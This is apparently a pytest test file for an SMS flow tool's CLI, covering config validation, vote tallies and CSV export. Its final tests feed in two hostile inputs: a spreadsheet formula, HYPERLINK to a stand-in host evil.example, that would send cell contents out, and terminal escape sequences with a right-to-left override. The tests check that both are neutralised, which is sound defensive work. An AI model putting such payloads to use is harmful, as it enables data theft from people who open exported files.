"""``smsflows flows check``, ``smsflows results`` and ``smsflows export``, run as real commands."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from app.cli import main
from tests.conftest import Service, make_settings, running, send_mo, write_flows

VOTE = """
id = "final"
kind = "vote"
name = "Finał"
numbers = ["70120"]
keywords = ["GLOS", "VOTE"]
starts = 2025-12-01T20:00:00+01:00
ends = 2025-12-01T22:00:00+01:00

[vote]
options = { A = ["ANNA"], B = ["BARTEK"] }
labels = { A = "Anna", B = "Bartek" }

[replies]
accepted = "Dziękujemy! Głos na {{ label }} przyjęty."
invalid = "Wyslij GLOS A lub GLOS B."
"""
INFO = """
id = "info"
kind = "autoreply"
keywords = ["INFO"]
starts = 2020-01-01T00:00:00
ends = 2099-01-01T00:00:00

[replies]
reply = "Info: {{ args }}"
"""
LATER = """
id = "later"
kind = "autoreply"
keywords = ["LATER"]
starts = 2099-01-01T00:00:00
[replies]
reply = "Soon."
"""
OFF = """
id = "off"
kind = "autoreply"
keywords = ["OFF"]
enabled = false
[replies]
reply = "Off."
"""
IN_WINDOW = "1764619200"  # 2025-12-01 21:00 Warsaw


def run_cli(*args: str, cwd: Path, **settings: str) -> subprocess.CompletedProcess[str]:
    """The smsflows command as a real process; keyword arguments are SMSFLOWS_* settings."""
    env = {**os.environ, "COLUMNS": "250", **{f"SMSFLOWS_{k.upper()}": v for k, v in settings.items()}}
    return subprocess.run(
        [sys.executable, "-m", "app.cli", *args], env=env, cwd=cwd, capture_output=True, text=True, timeout=60
    )


async def arun_cli(*args: str, cwd: Path, **settings: str) -> subprocess.CompletedProcess[str]:
    """``run_cli`` without blocking the service that runs in this event loop."""
    return await asyncio.to_thread(run_cli, *args, cwd=cwd, **settings)


def check(directory: Path | None, *options: str, env: dict[str, str] | None = None) -> tuple[int, str, str]:
    args = ["flows", "check", *([str(directory)] if directory else []), *options]
    result = CliRunner().invoke(main, args, env={"COLUMNS": "250", **(env or {})})
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.stdout, result.stderr


def test_check_of_a_good_folder_prints_flows_and_replies_and_exits_0(tmp_path: Path) -> None:
    flows = write_flows(tmp_path / "flows", final=VOTE, info=INFO, later=LATER, off=OFF)
    code, out, err = check(flows)
    assert code == 0, err
    assert "window (Europe/Warsaw)" in out
    flows_table = out.split("Replies rendered with sample data")[0]
    rows = {line.split("│")[1].strip(): line for line in flows_table.splitlines() if line.startswith("│")}
    assert "GLOS, VOTE" in rows["final"] and "70120" in rows["final"]
    assert "2025-12-01 20:00 – 2025-12-01 22:00" in rows["final"] and "closed" in rows["final"]
    assert "open" in rows["info"] and "upcoming" in rows["later"] and "disabled" in rows["off"]
    replies = [line for line in out.splitlines() if "│ accepted" in line or "│ invalid" in line]
    # Shown with the label that makes it longest: Bartek, not the first one.
    assert "UCS-2" in replies[0] and "Dziękujemy! Głos na Bartek przyjęty." in replies[0]
    assert "GSM-7" in replies[1] and "1/2" in replies[1]
    assert "4 flow(s), no errors." in out
    assert err == ""


def test_check_reads_the_folder_from_the_settings_and_speaks_json(tmp_path: Path) -> None:
    flows = write_flows(tmp_path / "flows", final=VOTE)
    code, out, _ = check(None, "--json", env={"SMSFLOWS_FLOWS_DIR": str(flows)})
    assert code == 0
    report = json.loads(out)
    assert report["errors"] == []
    (final,) = report["flows"]
    assert final["keywords"] == ["GLOS", "VOTE"] and final["status"] == "closed"
    accepted = next(r for r in final["replies"] if r["name"] == "accepted")
    assert (accepted["encoding"], accepted["length"], accepted["parts"]) == ("UCS-2", 36, 1)


TOO_LONG = VOTE.replace('name = "Finał"', "max_parts = 1").replace(
    '"Wyslij GLOS A lub GLOS B."', '"Wyślij GLOS A lub GLOS B. ' + "Regulamin na stronie. " * 3 + '"'
)
BAD_FOLDERS = {
    "unknown top-level field": (
        {"final": VOTE.replace('name = "Finał"', 'keyword = "GLOS"')},
        ["final.toml: keyword: unknown field"],
    ),
    "unknown nested field": (
        {"final": VOTE.replace("[vote]\n", "[vote]\nper_voter = 2\n")},
        ["final.toml: vote.per_voter: unknown field"],
    ),
    "bad kind": (
        {"final": VOTE.replace('kind = "vote"', 'kind = "poll"')},
        ["final.toml: kind: 'poll' is not a flow kind; use one of", "vote"],
    ),
    "alias reused": (
        {"final": VOTE.replace('B = ["BARTEK"]', 'B = ["BARTEK", "anna"]')},
        ["final.toml: vote.options.B: alias 'anna' is already used by option A"],
    ),
    "keyword conflict across files": (
        {"final": VOTE, "other": VOTE.replace('id = "final"', 'id = "other"')},
        ["other.toml: keywords: GLOS on number 70120 is already claimed by", "final.toml"],
    ),
    "reply too long": (
        {"final": TOO_LONG},
        ["final.toml: replies.invalid: with sample data this reply is", "over max_parts = 1"],
    ),
}


@pytest.mark.parametrize("case", list(BAD_FOLDERS))
def test_check_of_a_bad_folder_names_file_and_field_and_exits_1(tmp_path: Path, case: str) -> None:
    files, expected = BAD_FOLDERS[case]
    code, _, err = check(write_flows(tmp_path / "flows", **files))
    assert code == 1
    assert all(fragment in err for fragment in expected), err
    assert "Traceback" not in err


def test_check_prints_every_error_of_every_file_at_once(tmp_path: Path) -> None:
    long = TOO_LONG.replace('id = "final"', 'id = "long"').replace('["GLOS", "VOTE"]', '["DLUGI"]')
    files = {
        name: BAD_FOLDERS[case][0]["final"]
        for name, case in [
            ("typo", "unknown top-level field"),
            ("kind", "bad kind"),
            ("alias", "alias reused"),
        ]
    }
    files |= {"final": VOTE, "other": VOTE.replace('id = "final"', 'id = "other"'), "long": long}
    code, out, err = check(write_flows(tmp_path / "flows", **files))
    assert code == 1
    assert "6 error(s):" in err  # other.toml claims both GLOS and VOTE
    for fragment in [
        "typo.toml: keyword: unknown field",
        "kind.toml: kind: 'poll'",
        "alias.toml: vote.options.B: alias 'anna'",
        "other.toml: keywords: GLOS on number 70120",
        "other.toml: keywords: VOTE on number 70120",
        "long.toml: replies.invalid:",
    ]:
        assert fragment in err
    assert "│ final" in out and "│ long" in out  # what did load is still shown


def test_check_of_a_missing_folder_is_an_error(tmp_path: Path) -> None:
    code, _, err = check(tmp_path / "nope")
    assert code == 1
    assert "nope: no such folder" in err


@pytest.fixture
async def voted(database_url: str, tmp_path: Path) -> AsyncIterator[Service]:
    flows = write_flows(tmp_path / "flows", final=VOTE, info=INFO)
    async with running(make_settings(database_url, flows_dir=str(flows))) as svc:
        for sender, text in [
            ("48600000001", "GLOS A"),
            ("48600000002", "glos anna"),
            ("48600000003", "GLOS B"),
        ]:
            await send_mo(svc, sender=sender, text=text, time=IN_WINDOW)
        await send_mo(svc, sender="48600000004", text="GLOS Z", time=IN_WINDOW)
        await send_mo(svc, sender="48600000005", text="INFO ceny")
        yield svc


async def test_results_prints_the_tally_with_bars_and_the_outcomes(voted: Service, tmp_path: Path) -> None:
    settings = voted.settings
    result = await arun_cli(
        "results", "final", cwd=tmp_path, database_url=settings.database_url, flows_dir=settings.flows_dir
    )
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    anna = next(line for line in lines if "Anna" in line)
    assert "│ A " in anna and "│     2 │" in anna and "66.7%" in anna and "█" in anna
    assert any("total" in line and "3" in line for line in lines)
    assert any("accepted" in line and "│     3 │" in line for line in lines)
    assert any("invalid" in line and "│     1 │" in line for line in lines)


async def test_results_as_json_match_the_stored_votes(voted: Service, tmp_path: Path) -> None:
    settings = voted.settings
    result = await arun_cli(
        "results",
        "final",
        "--json",
        cwd=tmp_path,
        database_url=settings.database_url,
        flows_dir=settings.flows_dir,
    )
    data = json.loads(result.stdout)
    assert [(t["option"], t["votes"]) for t in data["results"]["tally"]] == [("A", 2), ("B", 1)]
    assert data["outcomes"] == {"accepted": 3, "invalid": 1} and data["events"] == 4


async def test_export_writes_the_votes_as_csv(voted: Service, tmp_path: Path) -> None:
    settings = voted.settings
    target = tmp_path / "votes.csv"
    result = await arun_cli(
        "export",
        "final",
        "--csv",
        str(target),
        cwd=tmp_path,
        database_url=settings.database_url,
        flows_dir=settings.flows_dir,
    )
    assert result.returncode == 0, result.stderr
    assert "3 row(s) written" in result.stderr
    with target.open(encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [(r["sender"], r["option"], r["seq"]) for r in rows] == [
        ("48600000001", "A", "1"),
        ("48600000002", "A", "1"),
        ("48600000003", "B", "1"),
    ]
    assert rows[0]["created_at"].endswith("+00:00") and rows[0]["message_time"] == IN_WINDOW


async def test_export_of_a_kind_without_entries_writes_its_events(voted: Service, tmp_path: Path) -> None:
    settings = voted.settings
    result = await arun_cli(
        "export",
        "info",
        "--csv",
        "-",
        cwd=tmp_path,
        database_url=settings.database_url,
        flows_dir=settings.flows_dir,
    )
    assert result.returncode == 0, result.stderr
    (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
    assert (row["sender"], row["outcome"], row["flow_id"]) == ("48600000005", "replied", "info")
    assert json.loads(row["detail"]) == {"args": "CENY"}


async def test_results_of_an_unknown_flow_says_which_flows_exist(voted: Service, tmp_path: Path) -> None:
    settings = voted.settings
    result = await arun_cli(
        "results", "nope", cwd=tmp_path, database_url=settings.database_url, flows_dir=settings.flows_dir
    )
    assert result.returncode == 1
    assert "no flow 'nope'" in result.stderr and "final, info" in result.stderr
    assert "Traceback" not in result.stderr


@pytest.mark.postgres
def test_results_on_an_unmigrated_postgresql_says_to_upgrade(tmp_path: Path, empty_pg_url: str) -> None:
    flows = write_flows(tmp_path / "flows", final=VOTE)
    result = run_cli("results", "final", cwd=tmp_path, database_url=empty_pg_url, flows_dir=str(flows))
    assert result.returncode == 1
    assert "smsflows db upgrade" in result.stderr and "Traceback" not in result.stderr


def test_results_on_a_new_sqlite_database_migrate_it_as_serve_does(tmp_path: Path) -> None:
    flows = write_flows(tmp_path / "flows", final=VOTE)
    url = f"sqlite+aiosqlite:///{tmp_path / 'empty.db'}"
    result = run_cli("results", "final", "--json", cwd=tmp_path, database_url=url, flows_dir=str(flows))
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    assert [(t["option"], t["votes"]) for t in data["results"]["tally"]] == [("A", 0), ("B", 0)]
    assert data["events"] == 0


OPINION = """
id = "opinia"
kind = "survey"
numbers = ["70120"]
keywords = ["OPINIA"]
[[survey.steps]]
id = "comment"
type = "text"
ask = "Co poprawić?"
[replies]
done = "Dziękujemy!"
"""
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
ESCAPES = "red \x1b[31mALERT\x1b]0;owned\x07 \u202eaxe"


@pytest.fixture
async def answered(database_url: str, tmp_path: Path) -> AsyncIterator[Service]:
    flows = write_flows(tmp_path / "flows", opinia=OPINION)
    async with running(make_settings(database_url, flows_dir=str(flows))) as svc:
        for sender, answer in [("48600000001", FORMULA), ("48600000002", ESCAPES), ("48600000003", "-5")]:
            await send_mo(svc, sender=sender, text="OPINIA")
            await send_mo(svc, sender=sender, text=answer)
        yield svc


async def test_export_writes_formula_looking_answers_as_text(answered: Service, tmp_path: Path) -> None:
    settings = answered.settings
    target = tmp_path / "answers.csv"
    result = await arun_cli(
        "export", "opinia", "--csv", str(target), cwd=tmp_path, database_url=settings.database_url,
        flows_dir=settings.flows_dir,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    with target.open(encoding="utf-8") as f:
        values = {r["sender"]: r["value"] for r in csv.DictReader(f)}
    assert values["48600000001"] == "'" + FORMULA  # shown as typed, never run
    assert values["48600000003"] == "-5"  # a number is no formula
    assert values["48600000002"] == ESCAPES  # a file keeps the data as stored


def test_cells_a_spreadsheet_would_run_get_an_apostrophe() -> None:
    from app.reads.csv_cells import spreadsheet_safe

    for text in ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=1", "\r=1", " =1", "＝1"]:
        assert spreadsheet_safe(text) == "'" + text
    for text in ["Anna", "48600123456", "+48600123456", "-5", "1,5", "a=b", ""]:
        assert spreadsheet_safe(text) == text


def _in_a_terminal(*args: str, cwd: Path, **settings: str) -> str:
    """What the command prints when its standard output is a terminal."""
    import pty

    env = {**os.environ, "COLUMNS": "250", **{f"SMSFLOWS_{k.upper()}": v for k, v in settings.items()}}
    leader, follower = pty.openpty()
    with subprocess.Popen(
        [sys.executable, "-m", "app.cli", *args], env=env, cwd=cwd, stdout=follower, stderr=subprocess.PIPE
    ) as proc:
        os.close(follower)
        out = b""
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # the terminal closes with the process
                break
            if not chunk:
                break
            out += chunk
        proc.wait(timeout=60)
    os.close(leader)
    assert proc.returncode == 0, proc.stderr.read() if proc.stderr else ""
    return out.decode()


async def test_results_and_export_show_control_characters_as_escapes(
    answered: Service, tmp_path: Path
) -> None:
    settings = answered.settings
    where = {"database_url": settings.database_url, "flows_dir": settings.flows_dir}
    results = await arun_cli("results", "opinia", cwd=tmp_path, **where)
    assert results.returncode == 0, results.stderr
    exported = await asyncio.to_thread(
        _in_a_terminal, "export", "opinia", "--csv", "-", cwd=tmp_path, **where
    )
    for shown in (results.stdout, exported):
        assert "\x1b]0;owned" not in shown and "\x1b[31mALERT" not in shown and "\u202e" not in shown
        assert "\\x1b[31mALERT" in shown and "\\u202eaxe" in shown


def test_printable_writes_out_controls_and_keeps_line_breaks() -> None:
    from app.cli.terminal import printable

    assert printable("a\x1b[2Jb\rc\x9bd\u2066e") == "a\\x1b[2Jb\\x0dc\\x9bd\\u2066e"
    assert printable("zażółć\nTAK 👍🏽") == "zażółć\nTAK 👍🏽"
